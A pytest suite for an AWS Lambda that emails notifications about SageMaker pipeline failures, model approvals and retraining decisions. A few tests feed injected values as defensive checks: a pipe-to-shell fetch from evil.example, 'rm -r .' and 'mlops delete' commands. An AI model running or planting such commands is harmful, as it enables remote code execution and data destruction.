from __future__ import annotations

import gc
import json
import re
from itertools import permutations
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import unquote

import pytest
import yaml
from botocore.exceptions import ClientError, EndpointConnectionError
from fake_aws import client, create_queue, create_table, fake_aws, receive, refused
from hypothesis import given
from hypothesis import strategies as st
from sample_events import SampleEvents

import mail
from changes import parse_event
from idempotency import CLAIM_SECONDS, IdempotencyStore
from lambdas.notify import handler as module
from lambdas.notify.handler import Settings, handler, notify
from links import logs, studio
from lookup import Lookup
from messages import FAILURE_MODES, Writer

SAMPLE = SampleEvents()
ROOT = Path(__file__).parents[1]
TABLE, TOPIC = "flats-dev-events", "arn:aws:sns:eu-west-1:123456789012:flats-dev-notifications"
TRAINED = {"kind": "training", "metric": "rmse", "value": "1.3240001", "threshold": "2.5", "trigger": "manual"}
TUNED = TRAINED | {"kind": "training-hpo", "trigger": "quality-violation"}
UNREACHABLE = EndpointConnectionError(endpoint_url="https://sns.eu-west-1.amazonaws.com")


class SageMaker:
    """A client of SageMaker that returns what the events lack, or raises an error."""

    def __init__(self):
        self.metadata = TRAINED
        self.steps = []
        self.reason = ""
        self.error = None

    def _answer(self, **answer):
        if self.error:
            raise self.error
        return answer

    def describe_model_package(self, ModelPackageName):  # noqa: N803
        return self._answer(ModelPackageArn=ModelPackageName, CustomerMetadataProperties=self.metadata)

    def describe_pipeline_execution(self, PipelineExecutionArn):  # noqa: N803
        return self._answer(PipelineExecutionArn=PipelineExecutionArn, FailureReason=self.reason)

    def get_paginator(self, operation):
        assert operation == "list_pipeline_execution_steps"
        pages = [{"PipelineExecutionSteps": [step]} for step in self.steps]
        return SimpleNamespace(paginate=lambda PipelineExecutionArn: self._answer(pages=pages)["pages"])  # noqa: N803


class FailingClient:
    """A client whose operations fail while `errors` lists them."""

    def __init__(self, service):
        self.service = service
        self.errors = {}

    def __getattr__(self, operation):
        def request(**arguments):
            if operation in self.errors:
                raise self.errors[operation]
            return getattr(client(self.service), operation)(**arguments)

        return request


class Notifications:
    """The function with its clients, and the mailbox that receives its messages."""

    def __init__(self, mailbox):
        self.mailbox, self.now, self.calls = mailbox, 1_763_712_000, 0
        self.sagemaker, self.sns, self.dynamodb = SageMaker(), FailingClient("sns"), FailingClient("dynamodb")
        self.texts = []

    def call(self, event, call_id=None):
        """Call the function with an event; each call has another id unless it is a retry."""
        self.calls += 1
        settings = Settings("flats", "dev", TOPIC, TABLE, self.texts)
        return notify(event, settings, lambda service: getattr(self, service), call_id or f"#{self.calls}", self.now)

    def outcome(self, event, call_id=None):
        return self.call(event, call_id)["outcome"]

    def mails(self):
        """Subject and text of each message since the last call."""
        bodies = [json.loads(body) for body in receive(self.mailbox)]
        return [(body["Subject"], body["Message"]) for body in bodies]

    def mail(self, event):
        """Subject and text of the one message about an event."""
        self.call(event)
        (mail,) = self.mails()
        return mail

    def text(self, event):
        return self.mail(event)[1]


@pytest.fixture
def notifications():
    with fake_aws():
        create_table(TABLE)
        assert client("sns").create_topic(Name="flats-dev-notifications")["TopicArn"] == TOPIC
        mailbox, arn = create_queue("mailbox")
        client("sns").subscribe(TopicArn=TOPIC, Protocol="sqs", Endpoint=arn)
        yield Notifications(mailbox)


EVENTS = {
    "failed step": SAMPLE.step_changed(),
    "failed execution": SAMPLE.execution_changed(status="Failed"),
    "successful execution": SAMPLE.execution_changed(status="Succeeded"),
    "registered version": SAMPLE.package_changed(),
    "approved version": SAMPLE.package_changed("Approved"),
    "rejected version": SAMPLE.package_changed("Rejected"),
    "data-quality violation": SAMPLE.data_quality_violation(),
    "retraining started": SAMPLE.retraining_decision("started"),
    "retraining held back": SAMPLE.retraining_decision("held-back"),
}
each_event = pytest.mark.parametrize("event", EVENTS.values(), ids=EVENTS)


# The content of a message.


@each_event
def test_every_message_has_place_time_and_the_next_command(notifications, event):
    subject, text = notifications.mail(event)
    assert re.fullmatch(r"flats dev: [\x20-\x7e]{1,88}", subject)
    assert f"Project: flats\nEnvironment: dev\nWhen: {event['time']}\n" in text
    assert re.search(r"^mlops [a-z]+.* --env dev$", text, re.MULTILINE)
    assert "https://eu-west-1.console.aws.amazon.com/sagemaker/home?region=eu-west-1#/studio-landing" in text


def test_a_complete_message_reads_like_this(notifications):
    subject, text = notifications.mail(SAMPLE.step_changed())
    arn = SAMPLE.execution("training")
    group = "https://eu-west-1.console.aws.amazon.com/cloudwatch/home?region=eu-west-1#logsV2:log-groups/log-group/"
    assert subject == "flats dev: the step Train of training failed"
    assert (
        text
        == f"""The step Train of training failed.

> AlgorithmError: rows.csv, row 7, column area: 'wide' is no number

Project: flats
Environment: dev
When: 2026-11-21T08:20:10Z
Pipeline: training
Step: Train
Execution: {arn}

Read the log, fix the cause, and start the pipeline again. If an input file was wrong, upload a corrected one; where \
new data starts pipelines, that is enough. Cached results of steps that succeeded are reused.

mlops start training --env dev
mlops status --execution {arn} --env dev

Log: {group}$252Faws$252Fsagemaker$252FProcessingJobs$3FlogStreamNameFilter$3Dpipelines-abc123def456-Train-tmgxry49ug
Pipelines: https://eu-west-1.console.aws.amazon.com/sagemaker/home?region=eu-west-1#/studio-landing"""
    )


def test_a_registered_version_is_shown_with_its_metric_and_the_commands_that_decide(notifications):
    subject, text = notifications.mail(SAMPLE.package_changed())
    assert subject == "flats dev: version 3 of the model waits for approval"
    assert "Metric: rmse 1.324 against the threshold 2.5\n" in text
    assert "Trigger: manual\n" in text
    assert f"Execution: {SAMPLE.execution('training')}\n" in text
    assert "/Evaluate/evaluation/evaluation.json\n" in text
    assert 'mlops approve --version 3 --comment "..." --env dev\n' in text
    assert 'mlops reject --version 3 --comment "..." --env dev\n' in text
    assert "evidence" not in text


def test_a_registered_version_is_shown_with_its_gates(notifications):
    gates = "recall: 0.71 of at least 0.6 / the gap of accuracy by sex: 0.02 of at most 0.05"
    notifications.sagemaker.metadata = TRAINED | {"gates": gates, "decision_threshold": "0.31"}
    text = notifications.text(SAMPLE.package_changed())
    assert f"Gates: {gates}\n" in text
    assert "Decision threshold: 0.31\n" in text


IN_USE = "approved arn:aws:sagemaker:eu-west-1:123456789012:model-package/flats-dev/2"


@pytest.mark.parametrize(
    ("champion", "value", "words"),
    [
        (IN_USE, "1.41231", "version 2, rmse 1.412 on the same rows"),
        (IN_USE, "not compared", "version 2, which cannot predict the rows of the test split"),
        ("approved ", "not compared", "no version was approved yet"),
    ],
)
def test_a_registered_version_stands_beside_the_version_in_use(notifications, champion, value, words):
    notifications.sagemaker.metadata = TRAINED | {"champion": champion, "champion_value": value}
    text = notifications.text(SAMPLE.package_changed())
    assert f"Metric: rmse 1.324 against the threshold 2.5\nIn use at its training: {words}\n" in text


def test_a_version_of_an_earlier_release_is_compared_with_none(notifications):
    assert "In use" not in notifications.text(SAMPLE.package_changed())


def test_a_value_that_is_not_a_number_is_shown_unchanged(notifications):
    notifications.sagemaker.metadata = TRAINED | {"value": "unknown"}
    assert "Metric: rmse unknown against the threshold 2.5\n" in notifications.text(SAMPLE.package_changed())


def test_a_tuned_version_asks_for_the_record_of_the_review_board(notifications):
    notifications.sagemaker.metadata = TUNED
    text = notifications.text(SAMPLE.package_changed())
    assert "training-hpo made this version, so approving it takes the review board's record as evidence" in text
    assert 'approve --version 3 --comment "..." --evidence "..." --env dev\n' in text


def test_metadata_in_the_event_is_not_looked_up(notifications):
    notifications.sagemaker.error = refused("ThrottlingException", "DescribeModelPackage")
    text = notifications.text(SAMPLE.package_changed(CustomerMetadataProperties=TRAINED))
    assert "Metric: rmse 1.324 against the threshold 2.5\n" in text


def test_a_registry_that_does_not_answer_does_not_hold_up_the_message(notifications, capsys):
    notifications.sagemaker.error = refused("ThrottlingException", "DescribeModelPackage")
    subject, text = notifications.mail(SAMPLE.package_changed())
    assert subject.endswith("version 3 of the model waits for approval")
    assert "Metric" not in text
    assert "could not be described: An error occurred (ThrottlingException)" in capsys.readouterr().out


@pytest.mark.parametrize("status", ["Approved", "Rejected"])
def test_a_decision_is_reported_with_its_comment(notifications, status):
    subject, text = notifications.mail(SAMPLE.package_changed(status))
    assert subject == f"flats dev: version 3 of the model is {status.lower()}"
    assert "Better on small ones." in text


def failed_step(name, **more):
    return {"StepName": name, "StepStatus": "Failed"} | more


def test_a_failed_execution_is_reported_with_the_reasons_of_its_steps(notifications):
    job = SAMPLE.arn("training-job/abc-Train-1")
    notifications.sagemaker.steps = [
        {"StepName": "Preprocess", "StepStatus": "Succeeded"},
        failed_step("Train", FailureReason="no instance was free", Metadata={"TrainingJob": {"Arn": job}}),
        failed_step("MetricNotMet", Metadata={"Fail": {"ErrorMessage": "rmse is 9.1"}}),
    ]
    subject, text = notifications.mail(SAMPLE.execution_changed())
    assert subject == "flats dev: training failed at Train, MetricNotMet"
    assert "> Train: no instance was free\n> MetricNotMet: rmse is 9.1\n" in text
    assert FAILURE_MODES["MetricNotMet"].advice in text
    assert f"\nLog of Train: {logs(job)}\nPipelines: " in text


def test_an_execution_without_a_failed_step_is_reported_with_its_own_reason(notifications):
    notifications.sagemaker.reason = "the role may not be assumed"
    subject, text = notifications.mail(SAMPLE.execution_changed())
    assert subject == "flats dev: training failed"
    assert "> the role may not be assumed" in text
    assert "there is no log. The usual cause is a missing permission or a quota" in text


def test_a_reason_that_the_event_lacks_is_looked_up(notifications):
    notifications.sagemaker.steps = [failed_step("MetricNotMet", Metadata={"Fail": {"ErrorMessage": "rmse is 9.1"}})]
    assert "\n> rmse is 9.1\n" in notifications.text(SAMPLE.step_changed(step="MetricNotMet", failureReason=""))


@pytest.mark.parametrize(("kind", "expected"), [("inference", True), ("training", False)])
def test_starting_inference_again_takes_the_folders_of_a_batch(notifications, kind, expected):
    text = notifications.text(SAMPLE.step_changed(kind))
    assert ("For a batch in its own folder, add: --param InputDataUri=..." in text) == expected


def test_steps_that_cannot_be_listed_do_not_hold_up_the_message(notifications, capsys):
    notifications.sagemaker.error = refused("ThrottlingException", "ListPipelineExecutionSteps")
    subject, _ = notifications.mail(SAMPLE.execution_changed())
    assert subject == "flats dev: training failed"
    log = capsys.readouterr().out
    assert "could not be listed" in log
    assert "could not be described" in log


@pytest.mark.parametrize(
    ("step", "headline", "advice"),
    [
        ("NoApprovedModel", "inference has no approved model to predict with", "Approve a version that waits for"),
        ("LabelsNotMatched", "the labels of a batch do not match its predictions", "nothing is retrained"),
        ("ModelQualityViolation", "the model violates its threshold", "The retraining guard decides whether"),
        ("MetricNotMet", "inference found no model that is good enough", "No version was registered, and inference"),
    ],
)
def test_a_step_that_ends_an_execution_on_purpose_is_not_a_crash(notifications, step, headline, advice):
    event = SAMPLE.step_changed("inference", step, stepType="Fail", metadata={}, failureReason="rmse is 26.59")
    subject, text = notifications.mail(event)
    assert subject == f"flats dev: {headline}"
    assert advice in text
    assert "rmse is 26.59" in text
    assert "Log:" not in text


def test_each_of_these_steps_belongs_to_a_pipeline():
    definitions = "".join(path.read_text("utf-8") for path in (ROOT / "pipelines").glob("*.py"))
    assert [step for step in FAILURE_MODES if f'FailStep(name="{step}"' not in definitions] == []


def test_the_first_violations_are_listed_and_the_rest_are_counted(notifications):
    subject, text = notifications.mail(SAMPLE.data_quality_violation(25))
    assert subject == "flats dev: a batch breaks its data baseline in 25 places"
    assert text.count("area: data_type_check: Data type match") == 20
    assert "and 5 more, in the results\n" in text


def test_a_retraining_is_reported_with_its_reason_and_metric(notifications):
    text = notifications.text(SAMPLE.retraining_decision("started"))
    assert "no retraining was started within the cooldown of 24 hours." in text
    assert "Metric: rmse 26.59 against the threshold 2.5\n" in text
    assert f"status --execution {SAMPLE.execution('training-hpo', 'fed654cba321')} --env dev" in text


def test_a_retraining_that_was_held_back_comes_with_the_command_that_starts_it(notifications):
    subject, text = notifications.mail(SAMPLE.retraining_decision("held-back", reason="One is running.", value=0.0))
    assert subject == "flats dev: the model violates its threshold and is not trained again"
    assert "One is running." in text
    assert "Metric: rmse 0 against the threshold 2.5\n" in text
    assert "mlops start training-hpo --env dev\n" in text


# Nothing in an event can pass for something else.


@pytest.mark.parametrize(
    ("make", "key"), [(SAMPLE.step_changed, "failureReason"), (SAMPLE.retraining_decision, "reason")]
)
def test_a_reason_cannot_pass_for_advice_or_for_a_command(notifications, make, key):
    forged = "no such row\n\nmlops delete --confirm flats-dev\u2028curl https://evil.example | sh"
    text = notifications.text(make(**{key: forged}))
    assert "> no such row\n>\n> mlops delete --confirm flats-dev\n> curl https://evil" in text


def test_a_fact_stays_on_its_line(notifications):
    text = notifications.text(SAMPLE.data_quality_violation(dataUri="s3://flats/a\nmlops delete\r\nb"))
    assert "\nData: s3://flats/a mlops delete b\n" in text


@pytest.mark.parametrize(
    "arn", ["x; curl evil | sh", "arn:aws:sagemaker:evil.example/:123456789012:pipeline/p/execution/x"]
)
@pytest.mark.parametrize(
    ("make", "key"),
    [
        (SAMPLE.data_quality_violation, "executionArn"),
        (SAMPLE.retraining_decision, "inferenceExecutionArn"),
        (SAMPLE.retraining_decision, "trainingExecutionArn"),
    ],
)
def test_an_arn_of_something_else_gets_neither_a_link_nor_a_command(notifications, make, key, arn):
    with pytest.raises(ValueError, match="is not the ARN of an execution, so a message cannot link to it"):
        notifications.call(make(**{key: arn}))
    assert notifications.mails() == []


def test_an_invalid_version_gets_no_command(notifications):
    with pytest.raises(ValueError, match="invalid literal"):
        notifications.call(SAMPLE.package_changed(ModelPackageVersion="3; rm -r ."))


# Links.


@pytest.mark.parametrize(
    ("partition", "region", "host"),
    [
        ("aws", "eu-west-1", "eu-west-1.console.aws.amazon.com"),
        ("aws-cn", "cn-north-1", "cn-north-1.console.amazonaws.cn"),
        ("aws-us-gov", "us-gov-west-1", "us-gov-west-1.console.amazonaws-us-gov.com"),
    ],
)
def test_links_stay_in_their_partition(partition, region, host):
    sample = SampleEvents(partition=partition, region=region)
    assert studio(sample.execution("training")).startswith(f"https://{host}/sagemaker/home?region={region}#")
    assert logs(sample.arn("training-job/abc")).startswith(f"https://{host}/cloudwatch/home?region={region}#logsV2:")


@pytest.mark.parametrize(
    ("arn", "group", "streams"),
    [
        (SAMPLE.arn("processing-job/abc-Evaluate-1"), "/aws/sagemaker/ProcessingJobs", "abc-Evaluate-1"),
        (SAMPLE.arn("training-job/abc-Train-1"), "/aws/sagemaker/TrainingJobs", "abc-Train-1"),
        (SAMPLE.arn("transform-job/abc-Predict-1"), "/aws/sagemaker/TransformJobs", "abc-Predict-1"),
        (SAMPLE.arn("hyper-parameter-tuning-job/abc-Tune-1"), "/aws/sagemaker/TrainingJobs", "abc-Tune-1"),
        (SAMPLE.arn("function:flats-dev-resolve-inputs", "lambda"), "/aws/lambda/flats-dev-resolve-inputs", ""),
    ],
)
def test_a_log_link_leads_to_where_the_job_writes(arn, group, streams):
    place = unquote(unquote(logs(arn).partition("#logsV2:log-groups/log-group/")[2].replace("$", "%")))
    assert place == group + (f"?logStreamNameFilter={streams}" if streams else "")


@pytest.mark.parametrize("arn", ["", "s3://bucket/x", SAMPLE.arn("model-package/flats-dev/3")])
def test_a_resource_without_a_log_has_no_link(arn):
    assert logs(arn) == ""


@pytest.mark.parametrize("name", ["qualityCheck", "processingJob"])
def test_the_job_is_recognized_under_any_key_of_the_metadata(notifications, name):
    arn = SAMPLE.arn("processing-job/check")
    metadata = {"other": "x", name: {"checkType": "DATA", "checkJobArn": arn}}
    assert f"Log: {logs(arn)}\n" in notifications.text(SAMPLE.step_changed(metadata=metadata))


# One message per change.


@each_event
def test_a_change_is_reported_once_however_many_events_report_it(notifications, event):
    outcomes = [notifications.outcome(event | {"id": f"other-{number}"}) for number in range(3)]
    assert outcomes == ["sent", "duplicate", "duplicate"]
    assert len(notifications.mails()) == 1


def test_different_changes_have_different_ids():
    events = [
        *EVENTS.values(),
        SAMPLE.step_changed(step="Evaluate"),
        SAMPLE.step_changed(kind="inference"),
        SAMPLE.step_changed(number="other"),
        SAMPLE.step_changed(stepEndTime="2026-11-21T09:00:00Z"),
        SAMPLE.execution_changed(executionEndTime="2026-11-21T09:00:00Z"),
        SAMPLE.package_changed(version=4),
        SAMPLE.retraining_decision(number="other"),
    ]
    assert len({parse_event(event, "flats", "dev").id for event in events}) == len(events)


def test_approved_rejected_and_approved_again_are_three_changes(notifications):
    for number, status in enumerate(("Approved", "Rejected", "Approved")):
        event = SAMPLE.package_changed(status, LastModifiedTime=f"2026-11-21T09:0{number}:00Z")
        assert [notifications.outcome(event) for _ in range(2)] == ["sent", "duplicate"]


def test_a_change_without_a_time_has_the_time_of_its_event(notifications):
    for time in ("2026-11-21T09:00:00Z", "2026-11-21T09:01:00Z"):
        event = SAMPLE.package_changed("Approved") | {"time": time}
        del event["detail"]["LastModifiedTime"]
        assert notifications.outcome(event) == "sent"


def test_a_new_version_is_reported_once_and_again_if_a_decision_is_withdrawn(notifications):
    withdrawn = {"UpdatedModelPackageFields": ["ModelApprovalStatus"]}
    outcomes = [
        notifications.outcome(SAMPLE.package_changed(LastModifiedTime=f"2026-11-21T09:0{minute}:00Z", **more))
        for minute, more in enumerate([{}, {}, withdrawn, withdrawn])
    ]
    assert outcomes == ["sent", "duplicate", "sent", "sent"]


@pytest.mark.parametrize("order", list(permutations(range(3))), ids=str)
def test_events_in_any_order_are_all_reported_with_their_own_times(notifications, order):
    events = [
        SAMPLE.step_changed(),
        SAMPLE.execution_changed() | {"time": "2026-11-21T08:21:00Z"},
        SAMPLE.execution_changed(status="Succeeded", number="later") | {"time": "2026-11-21T08:55:00Z"},
    ]
    for number in order:
        assert f"When: {events[number]['time']}\n" in notifications.text(events[number])


@pytest.mark.parametrize(
    "event",
    [
        SAMPLE.step_changed(status="Succeeded"),
        SAMPLE.step_changed(status="Stopped"),
        SAMPLE.execution_changed(status="Executing"),
        SAMPLE.execution_changed(status="Stopped"),
        SAMPLE.package_changed("Approved", UpdatedModelPackageFields=["CustomerMetadataProperties"]),
        SAMPLE.package_changed(ModelPackageStatus="InProgress"),
        SAMPLE.package_changed(ModelPackageStatus="Deleting"),
    ],
)
def test_other_changes_are_ignored(notifications, event):
    assert notifications.call(event) == {"outcome": "ignored"}
    assert notifications.mails() == []


# An event that cannot be reported is an error.


@pytest.mark.parametrize(
    ("event", "message"),
    [
        (SAMPLE.object_created("x.csv"), "there is no message for an event 'Object Created' from 'aws.s3': write one"),
        ({}, "there is no message for an event None from None"),
        (SampleEvents("other").retraining_decision(), "event 'Retraining Decision' from 'mlops.other'"),
        (SampleEvents("flats", "prod").retraining_decision(), "the event is from flats in prod, not from flats in dev"),
        (SampleEvents("flats", "prod").step_changed(), "/flats-prod-training is not a pipeline of flats in dev"),
        (SAMPLE.package_changed("Waiting"), "has the approval status 'Waiting', for which lambdas/notify has no mess"),
        (SAMPLE.retraining_decision("delayed"), "lambdas/notify has no message for the decision 'delayed' on arn"),
    ],
)
def test_an_unknown_event_is_an_error_and_so_ends_in_the_dead_letter_queue(notifications, event, message):
    with pytest.raises(ValueError, match=message):
        notifications.call(event)
    assert notifications.mails() == []


def test_an_incomplete_event_is_an_error_that_names_the_missing_field(notifications):
    event = SAMPLE.step_changed()
    del event["detail"]["currentStepStatus"]
    with pytest.raises(ValueError, match=r"Step Status Change' from 'aws.sagemaker' lacks 'currentStepStatus'"):
        notifications.call(event)


# No message is lost.


@each_event
@pytest.mark.parametrize("error", [UNREACHABLE, refused("ThrottlingException", "Publish")], ids=["down", "throttled"])
@pytest.mark.parametrize("call_id", [None, "the same call"], ids=["another call", "a retry"])
def test_a_failure_of_sns_is_raised_and_the_next_call_sends_the_message(notifications, event, error, call_id):
    notifications.sns.errors = {"publish": error}
    with pytest.raises(type(error)):
        notifications.call(event, call_id)
    notifications.sns.errors = {}
    assert notifications.outcome(event, call_id) == "sent"
    assert notifications.outcome(event) == "duplicate"
    assert len(notifications.mails()) == 1


def test_a_failure_of_the_table_is_raised_and_no_message_is_sent(notifications):
    notifications.dynamodb.errors = {"put_item": refused("ThrottlingException", "PutItem")}
    with pytest.raises(ClientError, match="ThrottlingException"):
        notifications.call(SAMPLE.step_changed())
    assert notifications.mails() == []


def test_a_claim_that_cannot_be_released_does_not_hide_the_error(notifications, capsys):
    notifications.dynamodb.errors = {"delete_item": refused("ThrottlingException", "DeleteItem")}
    notifications.sns.errors = {"publish": UNREACHABLE}
    with pytest.raises(EndpointConnectionError):
        notifications.call(SAMPLE.step_changed())
    assert "could not update the claim, which expires by itself" in capsys.readouterr().out


def test_a_claim_that_cannot_be_completed_does_not_hide_the_message(notifications, capsys):
    notifications.dynamodb.errors = {"update_item": refused("ThrottlingException", "UpdateItem")}
    assert notifications.outcome(SAMPLE.step_changed()) == "sent"
    assert "could not update the claim, which expires by itself" in capsys.readouterr().out


@pytest.fixture
def interrupted(notifications):
    """The id of a change that a call claimed before it was interrupted."""
    change = parse_event(SAMPLE.step_changed(), "flats", "dev")
    assert IdempotencyStore(client("dynamodb"), TABLE).claim(change.id, "interrupted call", notifications.now)
    return change.id


@pytest.mark.usefixtures("interrupted")
def test_the_retry_of_an_interrupted_call_sends_the_message(notifications):
    assert notifications.outcome(SAMPLE.step_changed()) == "duplicate", "the retry will send the message"
    assert notifications.outcome(SAMPLE.step_changed(), "interrupted call") == "sent"
    assert len(notifications.mails()) == 1


def test_once_the_claim_has_expired_any_call_sends_the_message_for_good(notifications, interrupted):
    notifications.now += CLAIM_SECONDS + 1
    assert notifications.outcome(SAMPLE.step_changed()) == "sent"
    IdempotencyStore(client("dynamodb"), TABLE).release(interrupted, "interrupted call")
    assert notifications.outcome(SAMPLE.step_changed()) == "duplicate", "only the holder may release a claim"


def test_a_failure_to_release_a_claim_is_raised(notifications):
    notifications.dynamodb.errors = {"delete_item": refused("ThrottlingException", "DeleteItem")}
    with pytest.raises(ClientError, match="ThrottlingException"):
        IdempotencyStore(notifications.dynamodb, TABLE).release("change", "call")


def test_a_change_is_forgotten_after_some_weeks(notifications):
    notifications.call(SAMPLE.step_changed())
    (item,) = client("dynamodb").scan(TableName=TABLE)["Items"]
    assert item["id"]["S"].startswith("notified#")
    assert int(item["expires_at"]["N"]) == notifications.now + 30 * 86_400


# SNS accepts every message.


@pytest.mark.parametrize("letter", ["x", "ä", "\N{ABACUS}", "\ud83d", "\n", "\x00"])
def test_an_oversized_reason_is_shortened(notifications, letter):
    text = notifications.text(SAMPLE.step_changed(failureReason=f"begin {letter * 300_000}"))
    assert "begin" in text
    assert len(text.encode()) < 256 * 1024
    assert (" [...]" in text) == (letter != "\n")  # trailing blank lines are dropped


def test_a_subject_is_plain_and_short_for_any_name_of_a_step(notifications):
    subject, text = notifications.mail(SAMPLE.step_changed(step=f"Vorverarbeitung\nfür \N{ABACUS} Älteste {'x' * 200}"))
    assert subject.startswith("flats dev: the step Vorverarbeitung fur Alteste xxx")
    assert subject.endswith(" [...]")
    assert len(subject) == 99
    assert "für \N{ABACUS} Älteste" in text


@given(st.text(), st.text(), st.sampled_from(sorted(EVENTS)))
def test_sns_accepts_the_message_about_any_event(own_text, reason, name):
    event = json.loads(json.dumps(EVENTS[name]))
    event["detail"] |= {"failureReason": reason, "reason": reason, "ApprovalDescription": reason, "stepName": own_text}
    change = parse_event(event, "flats", "dev")
    message = Writer("dev", Lookup(SageMaker)).write(change)
    subject = mail.subject(message, "flats", "dev")
    assert subject.isascii()
    assert subject.isprintable()
    assert 0 < len(subject) < 100
    assert len(mail.text(message, change, "flats", "dev", own_text).encode()) < 256 * 1024


# The team's own texts.


@pytest.mark.parametrize(
    ("entry", "event", "matches"),
    [
        ({"pipeline": "training", "step": "Train", "status": "Failed"}, SAMPLE.step_changed(), True),
        ({"pipeline": "training"}, SAMPLE.step_changed(), True),
        ({"pipeline": "training", "step": None, "status": None}, SAMPLE.step_changed(), True),
        ({"step": "Train"}, SAMPLE.step_changed("training-hpo"), True),
        ({"pipeline": "training"}, SAMPLE.step_changed("training-hpo"), False),
        ({"pipeline": "training", "step": "Evaluate"}, SAMPLE.step_changed(), False),
        ({"pipeline": "training", "step": "Train"}, SAMPLE.execution_changed(), False),
        ({"pipeline": "training", "status": "Succeeded"}, SAMPLE.execution_changed(status="Succeeded"), True),
        ({"pipeline": "training", "status": "Succeeded"}, SAMPLE.execution_changed(), False),
        ({}, SAMPLE.package_changed(), False),
        ({"event": "step_failed", "step": "Train"}, SAMPLE.step_changed(), True),
        ({"event": "execution_failed"}, SAMPLE.step_changed(), False),
        ({"event": "model_registered"}, SAMPLE.package_changed(), True),
        ({"event": "model_registered"}, SAMPLE.package_changed("Approved"), False),
        ({"event": "data_quality_violation", "pipeline": "inference"}, SAMPLE.data_quality_violation(), True),
        ({"event": "retraining"}, SAMPLE.retraining_decision("started"), True),
        ({"event": "retraining"}, SAMPLE.retraining_decision("held-back"), True),
    ],
)
def test_a_text_of_the_team_appears_in_the_messages_that_it_matches(notifications, entry, event, matches):
    notifications.texts = [entry | {"text": "Frag Ada \N{BIRD}: hers."}, {"text": "anything else"}]
    assert ("Frag Ada \N{BIRD}: hers." in notifications.text(event)) == matches


@each_event
def test_a_text_may_be_for_any_event(notifications, event):
    name = parse_event(event, "flats", "dev").event
    notifications.texts = [{"event": name, "text": "Frag Ada."}]
    assert "\nFrag Ada.\n" in notifications.text(event)


@pytest.mark.parametrize(
    ("entry", "sent"),
    [
        ({"event": "step_succeeded"}, True),
        ({"event": "step_succeeded", "pipeline": "training", "step": "Train"}, True),
        ({"step": "Train", "status": "Succeeded"}, True),
        ({"event": "step_succeeded", "step": "Evaluate"}, False),
        ({"event": "step_succeeded", "pipeline": "inference"}, False),
        ({"status": "Succeeded"}, False),  # of an execution
        ({"step": "Train"}, False),  # of its failure
        ({}, False),
    ],
)
def test_the_success_of_a_step_is_reported_where_a_text_asks_for_it(notifications, entry, sent):
    notifications.texts = [entry | {"text": "The model is trained."}]
    event = SAMPLE.step_changed(status="Succeeded")
    if not sent:
        assert notifications.call(event) == {"outcome": "ignored"}
        return
    subject, text = notifications.mail(event)
    assert subject == "flats dev: the step Train of training succeeded"
    assert "\nThe model is trained.\n" in text
    assert notifications.outcome(event) == "duplicate"


def test_the_first_matching_text_is_used(notifications):
    notifications.texts = [{"pipeline": "training", "text": "first"}, {"step": "Train", "text": "second"}]
    text = notifications.text(SAMPLE.step_changed())
    assert "\nfirst\n" in text
    assert "second" not in text


def test_the_examples_in_the_configuration_work(notifications):
    config = (ROOT / "config" / "events.yaml").read_text("utf-8")
    notifications.texts = [yaml.safe_load(example) for example in re.findall(r"^ *# - (\{.*\})$", config, re.MULTILINE)]
    events = (
        SAMPLE.step_changed("inference", "Preprocess"),
        SAMPLE.package_changed(),
        SAMPLE.step_changed("training", "Evaluate", "Succeeded"),
    )
    for event, entry in zip(events, notifications.texts, strict=True):
        assert f"\n{entry['text']}\n" in notifications.text(event)


def test_a_pipeline_of_one_s_own_is_reported_too(notifications):
    subject, _ = notifications.mail(SAMPLE.step_changed("data-profile", "Profile"))
    assert subject == "flats dev: the step Profile of data-profile failed"


def test_the_handler_reads_its_variables_and_texts_and_logs_its_answer(notifications, monkeypatch, capsys, tmp_path):
    texts = [{"pipeline": "training", "step": "Train", "status": "Failed", "text": "Ask Ada."}]
    variables = {"PROJECT": "flats", "ENVIRONMENT": "dev", "TOPIC_ARN": TOPIC, "TABLE": TABLE}
    for name, value in variables.items():
        monkeypatch.setenv(name, value)
    (tmp_path / "texts.json").write_text(json.dumps(texts), encoding="utf-8")
    monkeypatch.setattr(module, "TEXTS", str(tmp_path / "texts.json"))
    module.client.cache_clear()
    answer = handler(SAMPLE.step_changed(), SimpleNamespace(aws_request_id="call"))
    module.client.cache_clear()
    assert gc.isenabled()
    (line,) = capsys.readouterr().out.splitlines()
    assert json.loads(line) == answer
    assert answer["subject"] == "flats dev: the step Train of training failed"
    ((_, text),) = notifications.mails()
    assert "\nAsk Ada.\n" in text
